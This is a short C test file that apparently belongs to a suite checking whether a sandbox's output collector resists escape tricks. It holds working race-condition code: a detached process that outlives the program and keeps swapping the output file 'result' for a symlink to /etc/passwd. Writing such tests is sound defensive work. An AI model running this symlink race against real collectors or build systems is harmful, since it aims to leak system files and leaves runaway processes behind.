// technique: a process that outlives the main program replaces the collected file by a link and back, without pause
// layer: everybody is dead before the collector looks; it follows no link
// run: --out result
// takes: 3s
// expect: status=ok
#include "attack.h"
int main(void) {
    if (fork() == 0) {
        setsid();
        for (;;) {
            unlink("result");
            if (symlink("/etc/passwd", "result")) {
            }
            unlink("result");
            close(open("result", O_CREAT | O_WRONLY, 0600));
        }
    }
    usleep(50000);
    return 0;
}
